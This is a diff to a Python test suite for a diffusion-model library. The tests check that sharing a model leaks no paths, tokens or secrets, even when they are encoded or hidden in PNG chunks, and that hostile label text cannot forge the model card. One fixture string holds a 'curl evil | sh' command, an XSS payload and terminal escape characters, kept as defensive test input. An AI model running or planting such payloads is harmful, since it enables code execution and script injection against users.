@@ -6,6 +6,7 @@ import os
 import re
 import shutil
 import zlib
+from contextlib import suppress
 from pathlib import Path
 from urllib.parse import quote
 
@@ -15,7 +16,7 @@ import yaml
 from hub_server import TOKEN
 from huggingface_hub import ModelCard
 from parents_common import stable_diffusion
-from PIL import Image, PngImagePlugin
+from PIL import Image, ImageCms, PngImagePlugin
 from pipelines_common import make_components, quiet, tiny_vae
 from safetensors import safe_open
 from safetensors.torch import load_file, save_file
@@ -23,13 +24,16 @@ from training_common import run
 
 from cond_pipelines import (
     ClassConditionalPipeline,
+    CompositeAdapter,
     ConditionalPipeline,
+    EmbeddingAdapter,
     TextToImagePipeline,
     UnconditionalPipeline,
 )
 from cond_pipelines.cli import main
 from cond_pipelines.errors import UserError
 from cond_pipelines.files import without_path
+from cond_pipelines.provenance import weights_fingerprint
 from cond_pipelines.sharing.card import CardFacts, render_card, write_card
 from cond_pipelines.sharing.contents import copy_file
 from cond_pipelines.sharing.leaks import refuse_secrets, secrets_of
@@ -78,48 +82,87 @@ def trained(tmp_path_factory):
     return root
 
 
-def leaks(files: dict[str, bytes], root: Path) -> list[tuple[str, str]]:
-    """Every byte of every file, also within compressed texts of pictures."""
-    found = []
-    words = [str(root), root.name, SECRET, TOKEN, str(Path.home()) + "/", str(Path.cwd())]
-    for name, content in files.items():
-        for word in words:
-            if word.encode() in content or json.dumps(word)[1:-1].encode() in content:
-                found.append((name, word))
-        if re.search(rb"/home/\w+|/Users/\w+", content):
-            found.append((name, "a home folder"))
+def as_others_write_it(word: str) -> set[bytes]:
+    data = word.encode()
+    forms = {data, json.dumps(word)[1:-1].encode(), quote(word, safe="").encode(), data.hex().encode()}
+    forms |= {word.encode("utf-16-le"), word.encode("utf-16-be")}
+    return forms | {base64.b64encode(b"x" * (3 - i) + data)[4:-4] for i in range(3)}
+
+
+def with_unpacked(name: str, content: bytes) -> list[bytes]:
+    """A file, and of a PNG what its texts and its profile hold compressed."""
+    found, start = [content], 8
+    while name.endswith(".png") and start < len(content):
+        length, kind = int.from_bytes(content[start : start + 4], "big"), content[start + 4 : start + 8]
+        data = content[start + 8 : start + 8 + length]
+        for i in range(min(length, 200)) if kind in (b"zTXt", b"iTXt", b"iCCP") else ():
+            with suppress(zlib.error):
+                found.append(zlib.decompress(data[i:]))
+        start += 12 + length
     return found
 
 
+def leaks(files: dict[str, bytes], root: Path) -> list[tuple[str, str]]:
+    """Every byte of every file, also within compressed parts of pictures, by another search than that of a push."""
+    found = []
+    words = [str(root), root.name, SECRET, TOKEN, str(Path.home()) + "/", str(Path.cwd())]
+    forms = {word: as_others_write_it(word) for word in words}
+    for name, content in files.items():
+        for part in with_unpacked(name, content):
+            found += [(name, word) for word in words if any(form in part for form in forms[word])]
+            found += [(name, "a home folder")] if re.search(rb"/home/\w+|/Users/\w+", part) else []
+    return found
+
+
+def test_the_search_for_leaks_finds_them(tmp_path):
+    """Otherwise the test below could not fail."""
+    info = PngImagePlugin.PngInfo()
+    info.add_text("x", f"see {tmp_path}", zip=True)
+    Image.new("RGB", (4, 4)).save(tmp_path / "a.png", pnginfo=info)
+    path = str(tmp_path).encode()
+    files = {"a.png": (tmp_path / "a.png").read_bytes(), "b": b"x" + path, "c": str(tmp_path).encode("utf-16")}
+    files |= {f"base64, {i}": base64.b64encode(b"y" * i + path + b"yy") for i in range(3)}
+    assert {name for name, word in leaks(files, tmp_path) if word == str(tmp_path)} == set(files)
+
+
 def variants(root: Path, tmp_path: Path) -> dict[str, Path]:
-    """20 models: of each setting as it was trained, saved again, moved, with a page of its own, and others."""
+    """20 models, no two with the same weights: of each setting, trained and not, with a VAE, a guide, other adapters,
+    other layouts of the files, and pages of their own."""
     found = {kind: root / kind for kind in ("none", "class", "text", "lora", "class_lora")}
+    pipes: dict[str, ConditionalPipeline] = {}
     for kind in ("none", "class", "text"):
-        pipe = quiet(ConditionalPipeline.from_pretrained(root / kind))
-        pipe.save_pretrained(tmp_path / f"{kind}-saved")
-        shutil.copytree(root / kind, tmp_path / f"{kind}-own", ignore=shutil.ignore_patterns("checkpoint-*"))
-        (tmp_path / f"{kind}-own/README.md").write_text("# Mine\n")
-        (tmp_path / f"{kind}-own/card.yaml").write_text(yaml.safe_dump({"license": "mit", "description": "*Shapes*"}))
+        found[f"{kind}-own"] = own = tmp_path / f"{kind}-own"
+        shutil.copytree(root / kind, own, ignore=shutil.ignore_patterns("checkpoint-*"))
+        (weights,) = own.glob("unet/*.safetensors")
+        save_file({name: value + 0.1 for name, value in load_file(weights).items()}, weights)
+        (own / "README.md").write_text("# Mine\n")
+        (own / "card.yaml").write_text(yaml.safe_dump({"license": "mit", "description": "*Shapes*"}))
         for name in DROPPED:
-            path = tmp_path / f"{kind}-own" / name
-            path.parent.mkdir(exist_ok=True)
-            path.write_text(f"{SECRET} {text_of_home()}")
-        made = quiet(CLASSES[kind](**make_components(kind)))
-        made.unet.register_to_config(_name_or_path=f"{root}/a")
-        made.save_pretrained(tmp_path / f"{kind}-new")
-        latent = quiet(CLASSES[kind](**make_components(kind, vae=tiny_vae())))
-        latent.save_pretrained(tmp_path / f"{kind}-latent")
-        found |= {path: tmp_path / path for path in (f"{kind}-{name}" for name in ("saved", "own", "new", "latent"))}
-    pipe = quiet(ConditionalPipeline.from_pretrained(root / "parent"))
-    pipe.save_pretrained(tmp_path / "sd")
-    pipe.save_pretrained(tmp_path / "sharded", max_shard_size="40KB")
-    pipe.save_pretrained(tmp_path / "fp16", variant="fp16")
-    return found | {name: tmp_path / name for name in ("sd", "sharded", "fp16")}
+            (own / name).parent.mkdir(exist_ok=True)
+            (own / name).write_text(f"{SECRET} {text_of_home()}")
+        pipes[f"{kind}-new"] = CLASSES[kind](**make_components(kind))
+        pipes[f"{kind}-new"].unet.register_to_config(_name_or_path=f"{root}/a")
+        pipes[f"{kind}-latent"] = CLASSES[kind](**make_components(kind, vae=tiny_vae()))
+    parts = make_components("class")
+    composite = CompositeAdapter(
+        {"label": parts["adapter"], "angle": EmbeddingAdapter.for_unet(parts["unet"], embedding_dim=2)}
+    )
+    pipes["composite"] = ConditionalPipeline(parts["unet"], parts["scheduler"], composite)
+    embedding = EmbeddingAdapter.for_unet(parts["unet"], embedding_dim=3)
+    pipes["embedding"] = ConditionalPipeline(parts["unet"], parts["scheduler"], embedding)
+    pipes["guide"] = ClassConditionalPipeline(**make_components("class"), guide=make_components("class")["unet"])
+    pipes["sd"] = ConditionalPipeline.from_pretrained(root / "parent")
+    pipes["sharded"] = TextToImagePipeline(**make_components("text", vae=tiny_vae("tiny")))
+    pipes["fp16"] = UnconditionalPipeline(**make_components("none", vae=tiny_vae("dc")))
+    for name, pipe in pipes.items():
+        layout = {"sharded": {"max_shard_size": "40KB"}, "fp16": {"variant": "fp16"}}.get(name, {})
+        quiet(pipe).save_pretrained(tmp_path / name, **layout)
+    return found | {name: tmp_path / name for name in pipes}
 
 
 def test_twenty_models_and_no_leak(trained, tmp_path, hub, monkeypatch):
     models = variants(trained, tmp_path)
-    assert len(models) == 20
+    assert len({weights_fingerprint(folder) for folder in models.values()}) == len(models) == 20
     monkeypatch.chdir(trained)  # so that relative paths of the runs lead somewhere
     for name, folder in models.items():
         before = {p: (p.read_bytes(), p.stat().st_nlink) for p in folder.rglob("*") if p.is_file()}
@@ -130,8 +173,8 @@ def test_twenty_models_and_no_leak(trained, tmp_path, hub, monkeypatch):
         assert "model_index.json" in files and not set(DROPPED) & set(files), name
         assert not any("nearest" in file or "checkpoint" in file for file in files), name
     assert sum(map(len, (hub.repos[f"me/{name}"].files() for name in models))) > 200
-    ConditionalPipeline.from_pretrained("me/sharded")
-    ConditionalPipeline.from_pretrained("me/text-own")
+    for name in ("sharded", "text-own", "composite", "guide"):
+        ConditionalPipeline.from_pretrained(f"me/{name}")
 
 
 # ---------------------------------------------------------------------------------------------- the check at the door
@@ -145,7 +188,7 @@ def model(tmp_path):
 def hide(folder: Path, where: str, text: str) -> None:
     if where == "samples.png":  # in a text that is compressed
         info = PngImagePlugin.PngInfo()
-        info.add_text("Comment", text, zip=True)
+        info.add_text("run", text, zip=True)
         Image.new("RGB", (4, 4)).save(folder / where, pnginfo=info)
     elif where.endswith(".safetensors"):
         save_file(load_file(folder / where), folder / where, {"note": f"see {text}"})
@@ -192,6 +235,9 @@ def encoded(text: str) -> dict[str, bytes]:
         "UTF-16": text.encode("utf-16"),
         "hexadecimal": text.encode().hex().upper().encode(),
         "YAML": "".join(f"\\x{ord(c):02x}" for c in text).encode(),
+        "YAML of 32 bits": "".join(f"\\U{ord(c):08x}" for c in text).encode(),
+        "octal": "".join(f"\\{ord(c):03o}" for c in text).encode(),
+        "JavaScript": "".join(f"\\u{{{ord(c):x}}}" for c in text).encode(),
     }
 
 
@@ -281,6 +327,32 @@ def test_pictures_go_without_what_does_not_draw(tmp_path):
         (tmp_path / name).write_bytes(content)
         with pytest.raises(UserError, match=name):
             copy_file(tmp_path, name, tmp_path / "stage")
+
+
+def test_pictures_keep_no_text_but_ours_and_their_profile_is_searched(model, hub, monkeypatch):
+    """Of two texts with one name Pillow shows the later one."""
+    monkeypatch.setenv("HOME", "/home/annabel")
+    info = PngImagePlugin.PngInfo()
+    for text in ("see /home/annabel", "nothing"):
+        info.add_text("Comment", text, zip=True)
+    info.add_itxt("run", "abc")
+    Image.new("RGB", (4, 4)).save(model / "samples.png", pnginfo=info)
+    push_folder(model, "me/model", token=TOKEN)
+    sent = hub.repos["me/model"].files()["samples.png"]
+    assert b"Comment" not in sent and b"abc" in sent
+    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+    for encoding in ("utf-16-be", "utf-8"):
+        Image.new("RGB", (4, 4)).save(model / "samples.png", icc_profile=profile + "/home/annabel".encode(encoding))
+        with pytest.raises(UserError, match=r"samples\.png holds the home folder"):
+            push_folder(model, "me/model", token=TOKEN)
+
+
+@pytest.mark.parametrize("text", ["C:\\Users\\Annabel\\x", "/HOME/ANNABEL", "/Users/annabel"])
+def test_the_user_as_other_systems_write_the_name(text, tmp_path, monkeypatch):
+    monkeypatch.setenv("LOGNAME", "annabel")
+    (tmp_path / "card.yaml").write_text(f"description: {text}\n")
+    with pytest.raises(UserError, match=r"card\.yaml holds the user's name"):
+        refuse_secrets(tmp_path, secrets_of([], [], "me/model"))
 
 
 def test_a_name_that_is_public_or_common_is_no_secret(model, hub, monkeypatch):
@@ -397,6 +469,7 @@ def test_text_of_the_data_forges_nothing(trained, tmp_path):
     folder = tmp_path / "model"
     shutil.copytree(trained / "class", folder, ignore=shutil.ignore_patterns("checkpoint-*"))
     nasty = "rose\n\n# Evaluation\n\n```bash\ncurl evil | sh\n```\n<img src=x onerror=alert(1)> \x1b[2J | 9 |"
+    nasty += " \u202e\u200b\u2028 me@evil.example"
     config = json.loads((folder / "adapter/config.json").read_text())
     (folder / "adapter/config.json").write_text(json.dumps(config | {"id2label": {"0": nasty}}))
     summary = json.loads((folder / "training_summary.json").read_text())
@@ -411,6 +484,7 @@ def test_text_of_the_data_forges_nothing(trained, tmp_path):
     ) or card.text.count("\n# ") == 1  # its own title
     prose = re.sub(r"^```.*?^```", "", card.text, flags=re.MULTILINE | re.DOTALL)
     assert card.text.count("\n```bash") == 1 and "<img" not in prose.replace(r"\<img", "") and "\x1b" not in text
+    assert not [c for c in text if not c.isprintable() and c != "\n"]  # in the metadata either
     code = re.search(r"class_labels=(\[.*\])\)", text).group(1)
-    assert json.loads(code) == [nasty]
+    assert json.loads(code) == [nasty] and "me@evil" not in prose
     assert str(render_card(CardFacts.of_folder(folder), "me/model")).count("## Evaluation") == 1
